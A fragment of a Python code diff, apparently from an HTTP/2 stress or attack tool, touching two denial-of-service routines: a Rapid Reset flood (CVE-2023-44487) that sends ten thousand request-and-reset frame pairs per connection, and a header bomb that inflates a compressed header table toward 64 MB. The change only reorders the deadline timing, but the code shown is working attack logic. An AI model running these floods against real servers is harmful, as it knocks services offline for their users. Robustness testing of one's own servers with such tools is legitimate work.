@@ -87,9 +87,9 @@ def pour(connection: socket.socket, begin: bytes, more: bytes, deadline: float, 
 def rapid_reset(target: Target, seconds: float) -> Outcome:
     """Requests that are reset in the same breath, ten thousand in a row (CVE-2023-44487)."""
     outcome: Outcome = Counter()
-    deadline = time.monotonic() + seconds
     paths = [LONG.format(key=target.key, number=f"reset-{number}") for number in range(100)]
     rows = b"".join(request(1 + 2 * number, paths[number % 100]) + reset(1 + 2 * number) for number in range(10_000))
+    deadline = time.monotonic() + seconds
     while time.monotonic() < deadline:
         with greet(target, outcome["connections"]) as connection:
             outcome["connections"] += 1
@@ -163,9 +163,9 @@ def empty_continuations(target: Target, seconds: float) -> Outcome:
 def header_bomb(target: Target, seconds: float) -> Outcome:
     """One long field in the table, and a thousand times its number: fields of 64 MB in 16 kB, again and again."""
     outcome: Outcome = Counter()
-    deadline = time.monotonic() + seconds
     first = frame(HEADERS, END_HEADERS | END_STREAM, 1, asks("/healthz", "GET", remembered("x", "y" * 4000)))
     bomb = integer(62, 7, 0x80) * (FRAME_BYTES_MAX - 100)
+    deadline = time.monotonic() + seconds
     while time.monotonic() < deadline:
         with greet(target, outcome["connections"]) as connection:
             outcome["connections"] += 1
